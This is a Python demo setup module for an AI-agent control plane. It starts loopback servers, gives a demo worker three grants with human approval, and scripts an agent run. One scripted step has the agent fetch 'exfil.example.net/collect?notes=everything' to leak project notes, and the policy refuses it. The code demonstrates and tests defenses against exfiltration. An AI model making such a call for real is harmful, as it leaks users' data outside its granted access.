"""`make demo`: the reference agent on real traffic, offline. Upstreams on host loopback (the scripted model,
a docs site, a status page held for approval), a demo worker with a model-key secret and exactly three
grants, one agent run, and a report read back from the records (audit chain, ledger, approvals)."""

from __future__ import annotations

import contextlib
import json
import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from controlplane.agents.selectors import REFERENCE, preset_get
from controlplane.agents.services import worker_agent_set
from controlplane.core.roles import APPROVERS, ensure_roles
from controlplane.demo.knowledge import note_step
from controlplane.demo.proposals import email_step
from controlplane.fleet.models import Worker
from controlplane.fleet.services import worker_create
from controlplane.policy.grant_services import grant_delete, grant_save
from controlplane.policy.models import Grant
from controlplane.policy.validation import validate_grant
from controlplane.proposals.services import destination_save
from controlplane.proposals.validation import validate_destination
from controlplane.vault.services import secret_set
from tools.scripted_model.script import script_parse
from tools.scripted_model.server import ScriptedModel, scripted_model_server

WORKER = "demo"
MODEL_SECRET = "demo-model-key"
MODEL_GRANT, DOCS_GRANT, ASK_GRANT = "demo-model", "demo-docs", "demo-ask"
APPROVER = "demo-approver"
SCRIPTED_MODEL = "roster-scripted"
DESTINATION = "team-chat"  # a webhook the trusted side posts to once a proposal is approved
# The box has no DNS and the gateway needs none for an address: grants name host loopback by its address.
HOST = "127.0.0.1"
DENIED_URL = "http://exfil.example.net/collect?notes=everything"
TASK = ("Read the project notes, check the deployment status page, and report both in two sentences. "
        "Also post the summary to the team chat and mail it to the team.")
DOCS = {"/docs/notes.txt": "Release 1.4 ships on Friday. Owner: Ana. Blockers: none.\n"}
STATUS = {"/status": "deploy pipeline: green (last run 12 minutes ago)\n"}


@dataclass(frozen=True)
class DemoPorts:
    model: int
    docs: int
    ask: int
    hook: int

    def url(self, port: int, path: str) -> str:
        return f"http://{HOST}:{port}{path}"


def demo_script(ports: DemoPorts) -> dict:
    """What the scripted model makes the agent do: read, try to leak, ask, propose, answer."""
    return {"model": SCRIPTED_MODEL, "steps": [
        {"say": "I'll read the project notes first.", "tool": "fetch_url",
         "arguments": {"url": ports.url(ports.docs, "/docs/notes.txt")}},
        {"say": "Sending a copy of the notes to an outside server.", "tool": "fetch_url",
         "arguments": {"url": DENIED_URL}},
        {"say": "That was refused. Now the status page.", "tool": "fetch_url",
         "arguments": {"url": ports.url(ports.ask, "/status")}},
        {"tool": "propose", "arguments": {"kind": "webhook", "destination": DESTINATION,
                                          "payload": {"text": "Release 1.4 Friday; pipeline green."},
                                          "reason": "the task asks to post the summary"}},
        email_step(),
        note_step(),
        {"say": "Release 1.4 ships on Friday (owner Ana, no blockers), and the deploy pipeline is green. "
                "The post to the team chat and the e-mail to the team are proposed; the copy to "
                "exfil.example.net was refused by policy."},
    ]}


def _site_handler(pages: dict[str, str], received: list[bytes] | None = None):
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802 - the webhook: record what the executor posted
            length = min(int(self.headers.get("content-length") or 0), 64 * 1024)
            if received is not None:
                received.append(self.rfile.read(length))
            self.send_response(200 if received is not None else 405)
            self.send_header("content-length", "0")
            self.end_headers()

        def do_GET(self):  # noqa: N802 - http.server's naming
            body = pages.get(self.path.split("?", 1)[0])
            data = (body or "not found\n").encode()
            self.send_response(200 if body else 404)
            self.send_header("content-type", "text/plain; charset=utf-8")
            self.send_header("content-length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    return Handler


@contextlib.contextmanager
def _site(port: int, pages: dict[str, str], received: list[bytes] | None = None) -> Iterator[None]:
    server = ThreadingHTTPServer((HOST, port), _site_handler(pages, received))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


@dataclass
class Upstreams:
    model: ScriptedModel
    webhook: list[bytes]


@contextlib.contextmanager
def demo_upstreams(ports: DemoPorts, key: str, steps: dict | None = None) -> Iterator[Upstreams]:
    """The scripted model (`steps`: its script, else the reference agent's), the two sites and the
    webhook, in threads of this process, on host loopback."""
    script = script_parse(steps or demo_script(ports))
    webhook: list[bytes] = []
    with scripted_model_server(script, key, host=HOST, port=ports.model) as (_, model), \
            _site(ports.docs, DOCS), _site(ports.ask, STATUS), _site(ports.hook, {}, webhook):
        yield Upstreams(model=model, webhook=webhook)


def _grant(slug: str, data: dict) -> Grant:
    grant, _ = grant_save(validate_grant({"worker": WORKER, "schemes": ["http"], **data}, slug=slug),
                          actor="make demo", via="demo")
    return grant


def demo_setup(ports: DemoPorts, key: str, *, model_grant: dict | None = None,
               with_ask: bool = True) -> tuple[Worker, list[Grant]]:
    """The demo worker (its agent: the reference agent on the scripted model), its model key and exactly
    its three grants (any other grant of it is removed). `model_grant`: another preset's paths and key
    header (controlplane.demo.agents); `with_ask`: the status page held for approval."""
    worker = Worker.objects.filter(name=WORKER).first() or worker_create(
        WORKER, description="make demo: the reference agent against the scripted model")
    secret_set(MODEL_SECRET, key, kind="openai")
    model = {"paths": ["/v1/chat/completions"], "inject_header": "authorization",
             "inject_format": "Bearer {secret}", **(model_grant or {})}
    grants = [
        _grant(MODEL_GRANT, {"description": "the model API, key injected, inputs traced", "host": HOST,
                             "port": ports.model, "methods": ["POST"], "secret": MODEL_SECRET, "trace": True,
                             "cost_per_call": 2000, **model}),
        _grant(DOCS_GRANT, {"description": "the project notes", "host": HOST, "port": ports.docs,
                            "methods": ["GET"], "paths": ["/docs/**"]}),
    ]
    if with_ask:
        grants.append(_grant(ASK_GRANT, {"description": "the status page, each request approved by a human",
                                         "host": HOST, "port": ports.ask, "methods": ["GET"], "mode": "ask"}))
    # The relay starts the worker's agent (its preset) for a room's message: the reference agent, told to
    # use the scripted model.
    worker_agent_set(worker, preset_get(REFERENCE), model=SCRIPTED_MODEL,
                     base_url=ports.url(ports.model, "/v1"), by="make demo", via="demo")
    keep = {g.pk for g in grants}
    for other in Grant.objects.filter(worker=worker).exclude(pk__in=keep):
        grant_delete(other, actor="make demo", via="demo")
    destination_save(validate_destination({
        "kind": "webhook", "url": ports.url(ports.hook, "/hook"), "method": "POST",
        "description": "make demo: the team chat's incoming webhook"}, name=DESTINATION),
        actor="make demo", via="demo")
    return worker, grants


def demo_approver():
    """A user in the Approvers group for the auto-approving path (no password: it cannot log in)."""
    ensure_roles()
    user, created = get_user_model().objects.get_or_create(username=APPROVER)
    if created:
        user.set_unusable_password()
        user.save()
    user.groups.add(Group.objects.get(name=APPROVERS))
    return get_user_model().objects.get(pk=user.pk)  # a fresh instance: no stale permission cache


def web_url(path: str) -> str:
    """Where `make up` serves the web UI (scripts/up.sh: ROSTER_WEB_PORT, default 8000)."""
    return f"http://127.0.0.1:{os.environ.get('ROSTER_WEB_PORT', '8000')}{path}"


def org_wide_grants() -> list[str]:
    return list(Grant.objects.filter(worker__isnull=True, enabled=True).values_list("slug", flat=True))


def pretty(data: object) -> str:
    return json.dumps(data, sort_keys=True)
